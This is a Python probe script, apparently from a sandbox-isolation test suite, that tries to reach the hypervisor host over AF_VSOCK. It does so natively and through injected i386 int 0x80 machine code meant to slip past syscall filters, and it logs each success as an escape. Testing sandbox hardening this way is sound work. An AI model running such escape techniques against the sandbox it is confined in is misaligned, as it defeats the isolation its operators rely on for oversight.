"""Open AF_VSOCK sockets towards the hypervisor/host (vsock is not network-namespaced) natively and through the i386 socketcall()/socket() entry points."""
import ctypes

from _attack import ESCAPES, NOTES, en, finish, libc, sysc  # noqa: F401

import mmap  # noqa: E402
import socket  # noqa: E402
import struct  # noqa: E402

AF_VSOCK = 40
VMADDR_CID_HOST = 2

# int 0x80 trampoline: (nr, a1..a5) in rdi, rsi, rdx, rcx, r8, r9 -> eax, ebx, ecx, edx, esi, edi
TRAMPOLINE = bytes([0x53, 0x55, 0x89, 0xf8, 0x89, 0xf3, 0x49, 0x89, 0xd2, 0x89, 0xca, 0x44, 0x89, 0xd1,
                    0x44, 0x89, 0xc6, 0x44, 0x89, 0xcf, 0x31, 0xed, 0xcd, 0x80, 0x5d, 0x5b, 0xc3])


def compat_caller():
    code = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS,
                     prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(TRAMPOLINE)
    fn = ctypes.CFUNCTYPE(ctypes.c_int, *([ctypes.c_long] * 6))(ctypes.addressof(ctypes.c_char.from_buffer(code)))
    low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # MAP_32BIT
    return fn, low, ctypes.addressof(ctypes.c_char.from_buffer(low)), code


def try_connect(fd, how):
    s = socket.socket(fileno=fd)
    s.settimeout(2)
    for port in (52, 1024, 5000, 9999):
        try:
            s.connect((VMADDR_CID_HOST, port))
            ESCAPES.append("%s: connected to the host over vsock port %d" % (how, port))
            break
        except OSError:
            pass
    s.close()


def main():
    for typ, name in ((socket.SOCK_STREAM, "stream"), (socket.SOCK_DGRAM, "dgram"), (socket.SOCK_SEQPACKET, "seqpacket")):
        try:
            s = socket.socket(AF_VSOCK, typ)
        except OSError as e:
            NOTES.append("socket(AF_VSOCK, %s): %s" % (name, en(e.errno)))
            continue
        ESCAPES.append("created an AF_VSOCK %s socket" % name)
        try_connect(s.detach(), "native %s" % name)
    try:
        fn, low, la, keep = compat_caller()
    except (OSError, ValueError) as e:
        NOTES.append("no i386 entry available: %s" % e)
        return
    low[0:12] = struct.pack("<iii", AF_VSOCK, socket.SOCK_STREAM, 0)
    r = fn(102, 1, la, 0, 0, 0)  # socketcall(SYS_SOCKET, args)
    if r >= 0:
        ESCAPES.append("i386 socketcall(SYS_SOCKET, AF_VSOCK) created fd %d" % r)
        try_connect(r, "i386 socketcall")
    else:
        NOTES.append("i386 socketcall(AF_VSOCK): %s" % en(-r))
    r = fn(359, AF_VSOCK, socket.SOCK_STREAM, 0, 0, 0)  # i386 socket()
    if r >= 0:
        ESCAPES.append("i386 socket(AF_VSOCK) created fd %d" % r)
        try_connect(r, "i386 socket")
    else:
        NOTES.append("i386 socket(AF_VSOCK): %s" % en(-r))


if __name__ == "__main__":
    finish(main)
